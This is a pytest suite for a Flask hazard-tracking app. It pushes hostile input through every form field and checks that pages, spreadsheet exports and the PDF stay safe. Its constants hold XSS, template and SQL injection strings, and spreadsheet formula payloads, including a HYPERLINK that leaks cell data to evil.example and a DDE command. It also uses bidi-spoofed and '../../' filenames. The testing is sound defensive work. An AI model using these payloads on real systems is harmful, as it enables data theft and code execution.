"""Hostile text in every field, typed at the pages, on both databases: nothing breaks, nothing runs, nothing is lost.

One hazard goes from the report to 销号 with the text in every field of report, acceptance, plan, work, opinion and
reason; then pages, ledger and printed form are looked at.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from html import escape, unescape
from typing import Any

import pytest
from flask import Flask
from openpyxl import load_workbook
from pypdf import PdfReader

from core.settings import Settings
from hazards.forms.cleaning import several_lines
from notices.fonts import install_fonts
from tests.accounts.world import token
from tests.clocks import FixedClock
from tests.hazards.city import PASSWORD, City, build_city
from tests.hazards.visiting import Page, Visitor, jpeg
from tests.notices.cached_fonts import font_cache
from tests.pages.house import further_people
from tests.pages.reading import breaks, read

MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><!-- ]]> &lt;b&gt; <para><b></font>"
TEMPLATES = "{{ 7*7 }} {% raw %} ${7*7} %(x)s %s {0} \\u0041 'OR 1=1;--"
FORMULAS = '=HYPERLINK("http://evil.example/?"&A1,"点此")\n+1+cmd|\' /C calc\'!A0\t-2+3\n@SUM(A1:A9)'
CONTROLS = "停\x00电\x07 \x1b[31m红\x7f\x85\u2028\u2029\ufeff末"
DIRECTION = "\u202efdp.exe \u2066العربية עברית\u2069 \u200f右"
SIGNS = "👨‍👩‍👧‍👦🏴‍☠️ e\u0301 𬭬䶮镕堃 \U0010fffd ｆｕｌｌ"

TEXTS = {
    "markup": MARKUP + TEMPLATES,
    "formulas": FORMULAS,
    "unseen": CONTROLS + DIRECTION + SIGNS,
    "long": "隐" * 1999 + "患",
}
LONGEST = 10_000
REFUSED = (409, 422)


@pytest.fixture
def city(app: Flask, settings: Settings, clock: FixedClock, request: pytest.FixtureRequest) -> City:
    """The small city, with fonts for the documents."""
    install_fonts(settings.instance / "fonts", cache=font_cache(request.config))
    with app.app_context():
        return build_city(clock())


def file_name(text: str) -> str:
    """As the name of a file; browsers write no line ends into it."""
    return f"{' '.join(text[:80].split())}.jpg"


@dataclass
class Typist:
    """Takes one hazard through its whole course, with one text in every field."""

    app: Flask
    text: str

    def __post_init__(self) -> None:
        self._visitors: dict[str, Visitor] = {}
        self.number = ""

    def who(self, key: str) -> Visitor:
        """This person's browser."""
        if key not in self._visitors:
            self._visitors[key] = Visitor(self.app, key)
        return self._visitors[key]

    def at(self, path: str) -> str:
        """A page of the hazard."""
        return f"/hazards/{self.number}{path}"

    def report(self) -> None:
        """Report a major one."""
        text = self.text
        page = self.who("leader").fill(
            "/hazards/new",
            place=text[:300],
            description=text,
            category="equipment",
            grade="major",
            stop_note=text,
            result=text,
            responsible_unit=text[:200],
            photos=jpeg(name=file_name(text)),
        )
        self.number = page.url.rsplit("/", 1)[1]

    def accept(self) -> None:
        """Accept it, twice signed."""
        text = self.text
        page = self.who("manager").fill(
            self.at("/accept"),
            criterion="none",
            criterion_reason=text,
            responsible_person_id="",
            responsible_person=text[:60],
            responsible_unit=text[:200],
            deadline="2026-12-15",
            plan_due="2026-11-26",
            interim_controls=text,
        )
        self.who("manager").follow(self.who("manager").send(page, opinion=text, password=PASSWORD))
        self.sign("principal")

    def sign(self, *keys: str, action: str = "", **typed: str) -> None:
        """Sign what waits, or what is opened by signing."""
        for key in keys:
            url = self.at(f"/sign?action={action}" if action else "/sign")
            self.who(key).fill(url, **({"opinion": self.text, "password": PASSWORD} | typed))

    def plan(self) -> None:
        """Write the plan and have it signed."""
        names = ("measures", "responsibility", "contingency", "situation", "harm")
        typed = {f"plan_{name}": self.text for name in names} | {"plan_money_source": self.text[:200]}
        days = {"plan_deadline": "2026-12-15", "congress_told_on": "2026-11-16"}
        self.who("manager").fill(self.at("/plan"), plan_money="42", **typed, **days)
        self.sign("manager", action="plan")
        self.sign("principal")

    def work(self) -> None:
        """Record the work; the file has a hostile name too."""
        names = ("result", "cause", "similar_checked", "lasting_measure")
        typed: dict[str, Any] = dict.fromkeys(names, self.text)
        photo = jpeg(name="../../" + file_name(self.text))
        self.who("manager").fill(self.at("/work"), completed_on="2026-11-16", real_cost="1", photos=photo, **typed)

    def reasons(self) -> None:
        """Every page that asks for a reason: correct, remind, extend refused, verification ended and withdrawn."""
        text = self.text
        typed = {"place": text[:300], "description": text, "responsible_unit": text[:200], "found_by": text[:120]}
        self.who("manager").fill(self.at("/correct"), interim_controls=text, stop_note=text, **typed)
        extension = {"new_deadline": "2026-12-20", "reason": text, "interim_controls": text}
        self.who("manager").fill(self.at("/extend"), **extension)
        self.sign("principal", verdict="refused")
        self.sign("manager", action="verify")
        self.who("inspector_a").fill(self.at("/remind"), reason=text[:300])
        self.who("inspector_a").fill(self.at("/end"), reason=text[:500])
        self.sign("manager", action="verify")
        self.who("manager").fill(self.at("/withdraw"), reason=text[:300])

    def to_the_end(self) -> None:
        """Verify with a paper signature, and close."""
        self.sign("manager", action="verify")
        self.who("inspector_b").fill(
            self.at("/paper"),
            name=self.text[:60],
            role="principal",
            signed_on="2026-11-16",
            number=self.text[:80],
            opinion=self.text,
            scan=jpeg(name=file_name(self.text)),
        )
        self.sign("inspector_a", "inspector_b")
        self.sign("reviewer", action="close")
        self.sign("approver")


@pytest.fixture(params=list(TEXTS))
def closed(request: pytest.FixtureRequest, app: Flask, city: City) -> Typist:
    """One hazard at its end, with the text in every field."""
    typist = Typist(app, TEXTS[request.param])
    for stage in (typist.report, typist.accept, typist.plan, typist.work, typist.reasons, typist.to_the_end):
        stage()
    return typist


def test_a_whole_course_with_the_text_in_every_field(closed: Typist) -> None:
    _pages_show_it_as_text(closed)
    _ledger_holds_no_formula(closed)
    _form_prints(closed)


def _pages_show_it_as_text(closed: Typist) -> None:
    shown = several_lines(closed.text)
    for key in ("leader", "reviewer"):
        page = closed.who(key).open(closed.at(""))
        assert page.status == 200
        assert "已销号" in page.text
        _is_harmless(page)
        assert " ".join(shown.split()) in " ".join(unescape(re.sub(r"<[^>]*>", "", page.html)).split())
    for url in ("/", "/hazards/?view=all", closed.at("/changes"), closed.at("?all=1&order=asc"), "/reports/"):
        _is_harmless(closed.who("reviewer").open(url))


def _is_harmless(page: Page) -> None:
    assert page.status == 200
    assert breaks(page.html) == [], page.url
    assert "<script>alert" not in page.html
    assert "onerror" not in {name for _tag, attrs in read(page.html).fields for name in attrs}
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]", page.html), page.url


def _ledger_holds_no_formula(closed: Typist) -> None:
    reviewer = closed.who("reviewer")
    shown = token(reviewer.open("/reports/?month=2026-11").html)
    for ending in ("xlsx", "csv", "jsonl"):
        answer = reviewer.client.post(f"/reports/regulator.{ending}", data={"csrf_token": shown, "month": "2026-11"})
        assert answer.status_code == 200, ending
        if ending == "xlsx":
            _no_formula(answer.data, closed.number)
        if ending == "csv":
            rows = csv.reader(io.StringIO(answer.get_data(as_text=True)))
            assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        answer.close()


def _no_formula(data: bytes, number: str) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/sheet")]
        assert b"externalLink" not in b"".join(name.encode() for name in parts.namelist())
    assert sheets
    assert not any(re.search(rb"<f[ >]|<hyperlink", sheet) for sheet in sheets)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert number in [cell.value for cell in cells]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "b", "inlineStr"}


def _form_prints(closed: Typist) -> None:
    answer = closed.who("reviewer").client.get(closed.at("/closure-form.pdf"))
    assert answer.status_code == 200, answer.get_data(as_text=True)[:500]
    pages = PdfReader(io.BytesIO(answer.data)).pages
    assert closed.number in "".join(page.extract_text() for page in pages)
    answer.close()


# --- too long, and not what the page asked for --------------------------------------------------------------------


def _text_fields(page: Page) -> Iterator[str]:
    """Names of the fields one types text into."""
    for tag, attrs in read(page.html).fields:
        kind = attrs.get("type", "text")
        is_text = tag == "textarea" or (tag == "input" and kind in ("text", "password"))
        if is_text and attrs.get("name") not in (None, "q", "csrf_token"):
            yield attrs["name"]


def test_ten_thousand_characters_are_refused_in_words_and_kept(sqlite_app: Flask, clock: FixedClock) -> None:
    with sqlite_app.app_context():
        build_city(clock())
    long = ("字<😀&" * LONGEST)[:LONGEST]
    typist = Typist(sqlite_app, "安全出口堵塞")
    typist.report()
    for key, url in (
        ("leader", "/hazards/new"),
        ("manager", typist.at("/accept")),
        ("manager", typist.at("/correct")),
        ("manager", typist.at("/dismiss")),
        ("manager", typist.at("/escalate")),
    ):
        _all_refused(typist.who(key), url, long)
    typist.accept()
    _all_refused(typist.who("manager"), typist.at("/plan"), long)
    _all_refused(typist.who("manager"), typist.at("/work"), long)
    _all_refused(typist.who("manager"), typist.at("/extend"), long)
    typist.plan()
    typist.work()
    typist.sign("manager", action="verify")
    _all_refused(typist.who("principal"), typist.at("/sign"), long)
    _all_refused(typist.who("inspector_b"), typist.at("/paper"), long)
    _all_refused(typist.who("inspector_b"), typist.at("/end"), long)


def _all_refused(visitor: Visitor, url: str, long: str) -> None:
    page = visitor.open(url)
    assert page.status == 200, url
    names = list(_text_fields(page))
    assert names, url
    answer = visitor.send(page, None, **dict.fromkeys(names, long))
    assert answer.status == 422, f"{url}: {answer.status}"
    assert breaks(answer.html) == [], url
    assert escape(long[:50]) in answer.html, f"{url}: what was typed is lost"


ODD = ("", "abc", "-1", "9" * 30, "<script>", "\x00", "1" * LONGEST, "١٢٣")


def test_hidden_fields_that_were_tampered_with_do_no_harm(app: Flask, city: City) -> None:
    typist = Typist(app, "安全出口堵塞")
    typist.report()
    typist.accept()
    visitor = typist.who("manager")
    for path, typed in (
        ("/plan", {"plan_measures": "措施"}),
        ("/work", {"result": "结果", "completed_on": "2026-11-16"}),
        ("/extend", {"reason": "理由", "new_deadline": "2026-12-20", "interim_controls": "值守"}),
    ):
        page = visitor.open(typist.at(path))
        for name in {"version", "entries", "once", "staged", "doers"} & page.form.values.keys():
            for odd in ODD:
                answer = visitor.send(page, None, **(typed | {name: odd}))
                assert answer.status in (302, *REFUSED), f"{path} {name}={odd[:20]!r}: {answer.status}"


FILTERS = ("q", "view", "sort", "state", "grade", "region", "enterprise", "industry", "channel", "listed", "overdue")
FURTHER = ("found_from", "found_to", "due", "after", "before", "key")


@pytest.mark.parametrize("odd", ODD[1:], ids=range(1, len(ODD)))
def test_addresses_that_nobody_made_do_no_harm(app: Flask, city: City, odd: str) -> None:
    client = Visitor(app, "inspector_a").client
    for name in (*FILTERS, *FURTHER):
        assert client.get("/hazards/", query_string={name: odd}).status_code == 200, name
    assert client.get("/hazards/new", query_string={"enterprise": odd, "q": odd}).status_code == 200
    for asked in ({"month": odd}, {"region": odd}, {"enterprise": odd}):
        assert client.get("/reports/", query_string=asked).status_code in (200, 422), asked
        sent = {"csrf_token": token(client.get("/reports/").get_data(as_text=True)), "month": "2026-10"} | asked
        answer = client.post("/reports/regulator.csv", data=sent)
        assert answer.status_code in (404, 422), asked
        answer.close()
    for path in ("", "/sign", "/accept", "/evidence/1", "/closure-form.pdf"):
        assert client.get(f"/hazards/{odd}{path}").status_code == 404, path
    assert client.get(f"/hazards/new/photo/{odd}").status_code == 404


@pytest.mark.parametrize("odd", ODD[1:], ids=range(1, len(ODD)))
def test_administration_takes_nothing_odd(app: Flask, city: City, clock: FixedClock, odd: str) -> None:
    with app.app_context():
        further_people(city, clock())
    system = Visitor(app, "system_admin")
    for url, name in (
        ("/admin/enterprises/", "q"),
        ("/admin/enterprises/", "after"),
        ("/admin/regulators/", "region"),
        ("/admin/regulators/", "after"),
        ("/admin/regions/", "under"),
    ):
        assert system.client.get(url, query_string={name: odd}).status_code in (200, 404), (url, name)
    for url in ("/admin/regions/500000/new", "/admin/regulators/new", "/admin/enterprises/new"):
        page = system.open(url)
        typed = dict.fromkeys(_text_fields(page), odd)
        assert system.send(page, None, **typed).status in (302, *REFUSED), url
    assert system.client.get(f"/admin/regions/{odd}/new").status_code == 404
    security = Visitor(app, "security_admin").client
    assert security.get("/admin/security", query_string={"q": odd, "before": odd}).status_code == 200
    stranger = app.test_client()
    sent = {"csrf_token": token(stranger.get("/login").get_data(as_text=True)), "login": odd, "password": odd}
    assert stranger.post("/login", data=sent).status_code == 422
